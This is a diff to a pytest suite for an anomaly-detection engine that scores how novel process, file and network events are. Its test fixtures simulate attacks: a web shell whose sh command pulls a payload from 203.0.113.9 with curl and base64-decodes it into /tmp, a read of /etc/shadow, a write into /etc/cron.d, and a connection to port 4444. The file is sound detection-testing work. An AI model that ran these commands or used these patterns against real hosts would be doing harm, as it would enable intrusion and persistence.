@@ -8,7 +8,7 @@ import math
 import numpy as np
 import pytest
 
-from sentinel.anomaly.features import FEATURES, INDEX, FeatureExtractor, loo_row
+from sentinel.anomaly.features import FEATURES, INDEX, NEWS_LEVEL, FeatureExtractor, loo_row
 from sentinel.anomaly.keys import dest_range, dir_class, is_write_open, program
 from sentinel.anomaly.profiles import HOST, NS_PER_DAY, SLOT_NS, ProfileState, ProfileTable, novelty_value
 from sentinel.events import AF_INET, AF_INET6, AF_UNIX, Event, EventType
@@ -42,9 +42,25 @@ def test_novelty_is_zero_for_known_items_and_weighed_by_how_often_the_subject_do
     assert t.novelty("db", "/var/lib/db") == (0.0, 1000.0)
     db_new, _ = t.novelty("db", "/etc/ssh")
     cc_new, _ = t.novelty("cc", "/elsewhere")
-    assert db_new == pytest.approx(-math.log(0.5 / 1001), abs=1 / 32)  # n1 = 0: news
+    assert db_new == pytest.approx(-math.log(1 / 1002), abs=1 / 32)  # n1 = 0, one directory: news
     assert cc_new < 1.0 < db_new  # a program that does new things all the time: little news
     assert t.subject_stats("db") == (1, 1000.0, 0)
+
+
+def test_a_broad_program_is_no_news_even_once_its_habits_recur() -> None:
+    """An admin's shell started thirty programs, each many times: Good–Turing alone (n1 = 0) would call the
+    thirty-first news; Witten–Bell (30 distinct items) says the shell often starts something new."""
+    t = ProfileTable()
+    for _ in range(5):
+        for i in range(30):
+            t.update("bash", f"/usr/bin/tool{i}")
+    shell, _ = t.novelty("bash", "/usr/bin/stat")
+    assert shell == novelty_value(0, 150, 30) == pytest.approx(-math.log(30 / 181), abs=1 / 32)
+    assert shell < NEWS_LEVEL
+    for _ in range(150):
+        t.update("daemon", "/usr/bin/helper")
+    daemon, _ = t.novelty("daemon", "/usr/bin/sh")
+    assert daemon == novelty_value(0, 150, 1) > NEWS_LEVEL  # one helper, ever: a second program is news
 
 
 def test_leave_one_out_makes_a_singleton_new_and_a_repeat_known() -> None:
@@ -55,7 +71,7 @@ def test_leave_one_out_makes_a_singleton_new_and_a_repeat_known() -> None:
     t.update("svc", "/srv/twice")
     t.update("svc", "/srv/twice")
     once, count = t.novelty("svc", "/etc/once", minus=1.0)
-    assert count == 0.0 and once == novelty_value(0, 52)  # its own single count left out: new, n1 - 1
+    assert count == 0.0 and once == novelty_value(0, 52, 2)  # its own count left out: new, n1 - 1, K - 1
     assert t.novelty("svc", "/srv/twice", minus=1.0) == (0.0, 1.0)  # seen again: known
     assert t.novelty("svc", "/etc/once") == (0.0, 1.0)  # live: known
 
@@ -137,25 +153,27 @@ def test_web_shell_exec_row() -> None:
     fx = FeatureExtractor()
     init = proc(1, "/usr/lib/systemd/systemd", uid=0)
     fpm = proc(10, "/usr/sbin/php-fpm8.2", init)
-    for i in range(20):  # the baseline: php-fpm runs its usual helper
+    for i in range(200):  # the baseline: php-fpm runs its usual helper
         fx.row(
             exec_ev(100 + i, "/usr/bin/convert", ["convert", "a.png", "b.jpg"]),
             proc(100 + i, "/usr/bin/convert", fpm),
         )
-    sh = proc(200, "/usr/bin/dash", fpm)
+    sh = proc(1000, "/usr/bin/dash", fpm)
     argv = ["sh", "-c", "curl http://203.0.113.9/x | base64 -d > /tmp/.x; echo ZWNobyBoZWxsbyB3b3JsZA=="]
-    row = fx.row(exec_ev(200, "/bin/sh", argv), sh)
+    row = fx.row(exec_ev(1000, "/bin/sh", argv), sh)
     x = row.values
     assert x.dtype == np.float64 and x.shape == (len(FEATURES),)
-    assert x[INDEX["new_child"]] == novelty_value(0, 20)  # php-fpm never started anything else
+    assert x[INDEX["new_child"]] == novelty_value(0, 200, 1) > NEWS_LEVEL  # php-fpm never started another
     assert row.details["new_child"].startswith("php-fpm8.2 started /usr/bin/dash: it had not started this")
-    assert x[INDEX["new_exe"]] > 0 and x[INDEX["new_user"]] > 0
+    assert x[INDEX["new_exe"]] > 0  # the host ran one program 200 times: a second one is news
+    # dash never ran before, so nothing is known of its users: new, but below the news level (0 in the row)
+    assert x[INDEX["new_user"]] == 0.0 and "new_user" in row.details
     assert x[INDEX["type_exec"]] == 1.0 and x[INDEX["type_open"]] == 0.0
     assert set(FEATURES) == {"new_exe", "new_child", "new_user", "new_read_dir", "new_write_dir",
                              "new_port", "new_dest", "new_host_dest", "type_exec", "type_open",
                              "type_connect"}  # fmt: skip
     # counted after measuring: the same pair is now known
-    again = fx.row(exec_ev(201, "/bin/sh", argv), proc(201, "/usr/bin/dash", fpm))
+    again = fx.row(exec_ev(1001, "/bin/sh", argv), proc(1001, "/usr/bin/dash", fpm))
     assert again.values[INDEX["new_child"]] == 0.0 and "new_child" not in again.details
 
 
@@ -164,24 +182,25 @@ def test_open_and_connect_rows() -> None:
     p = proc(5, "/tmp/.cache/x", proc(1, "/usr/bin/bash", uid=0), uid=0, tty=34816)
     r = fx.row(open_ev(5, "/etc/shadow", ret=-13, uid=0), p, "/etc/shadow")
     assert r.values[INDEX["type_open"]] == 1.0
-    assert r.values[INDEX["new_read_dir"]] == novelty_value(0, 0)  # a program never seen: nothing expected
+    # a program never seen: its read is new, but nothing is expected of it (below the news level: 0)
+    assert r.values[INDEX["new_read_dir"]] == 0.0 and "new_read_dir" in r.details
     assert fx.state.tables["read_dir"].count("/tmp/.cache/x", "/etc") == 1.0
     # a process first met by an open (started before the agent) counts its executable once, not per event
     assert fx.state.tables["exe"].count(HOST, "/tmp/.cache/x") == 1.0
     w = fx.row(open_ev(5, "/etc/cron.d/x", flags=0o101, uid=0), p, "/etc/cron.d/x")
-    assert w.values[INDEX["new_write_dir"]] > 0.0 and w.values[INDEX["new_read_dir"]] == 0.0
+    assert "new_write_dir" in w.details and w.values[INDEX["new_read_dir"]] == 0.0
     assert fx.state.tables["write_dir"].count("/tmp/.cache/x", "/etc/cron.d") == 1.0
     co = Event(type=EventType.CONNECT, ts_ns=2, pid=5, tid=5, uid=0, gid=0, comm="x", family=AF_INET,
                address="198.51.100.7", port=4444, ret=-115)  # fmt: skip
-    for i in range(30):  # so 4444 is news for this program: 443 in 30 time slots
+    for i in range(100):  # so 4444 is news for this program: 443 in 100 time slots
         fx.state.update("exe_port", "/tmp/.cache/x", "443", DAY0 + i * SLOT_NS)
     c1 = fx.row(co, p)
     c2 = fx.row(co, p)
-    assert c1.values[INDEX["new_port"]] == novelty_value(0, 30) and c2.values[INDEX["new_port"]] == 0.0
-    assert c1.values[INDEX["new_host_dest"]] > 0 and c2.values[INDEX["new_host_dest"]] == 0.0
+    assert c1.values[INDEX["new_port"]] == novelty_value(0, 100, 1) and c2.values[INDEX["new_port"]] == 0.0
+    assert "new_host_dest" in c1.details and "new_host_dest" not in c2.details
     assert c1.details["new_port"] == (
         "x connected to 198.51.100.7:4444: no connection to this port by this program in the baseline "
-        "(30 events, 1 distinct ports)"
+        "(100 events, 1 distinct ports)"
     )
 
 
@@ -189,17 +208,18 @@ def test_training_rows_leave_themselves_out() -> None:
     fx = FeatureExtractor(learn=False)
     svc = proc(9, "/usr/sbin/svc")
     rows = []
-    for i in range(40):
+    first_new = None
+    for i in range(100):
         path = "/etc/once/f" if i == 7 else "/srv/data/f"
         x, facts = fx.compute(open_ev(9, path), svc, path)
         rows.append((np.array(x), list(facts.keys), facts.repeats))
+        first_new = facts.new if i == 0 else first_new
         fx.commit(facts, DAY0 + i * SLOT_NS)
-    live_first = rows[0][0][INDEX["new_read_dir"]]
-    assert live_first > 0  # live, score-then-update: the very first open looked new
+    assert first_new  # live, score-then-update: the very first open looked new
     for x, keys, weight in rows:
         loo_row(fx.state, x, keys, weight)
     assert rows[0][0][INDEX["new_read_dir"]] == 0.0  # it recurred: known at detection time
-    assert rows[7][0][INDEX["new_read_dir"]] == novelty_value(0, 39)  # only once in the period: new
+    assert rows[7][0][INDEX["new_read_dir"]] == novelty_value(0, 99, 1)  # only once in the period: new
 
 
 def test_frozen_extractor_does_not_learn() -> None:
@@ -217,6 +237,9 @@ def test_known_process_open_rows_are_their_directory_novelty_and_cache_key() -> 
         values, facts = fx.compute(open_ev(9, path, flags), p, path)
         return np.array(values), facts.row_key
 
+    for _ in range(200):  # the program's habits: one directory read, one written
+        fx.state.update("read_dir", "/usr/bin/python3", "/usr/lib", 0)
+        fx.state.update("write_dir", "/usr/bin/python3", "/var/log", 0)
     _, key = open_row("/srv/a")  # first met: counts the image
     assert key is None and fx.state.tables["exe"].count(HOST, "/usr/bin/python3") == 1.0
     again, key = open_row("/srv/b")
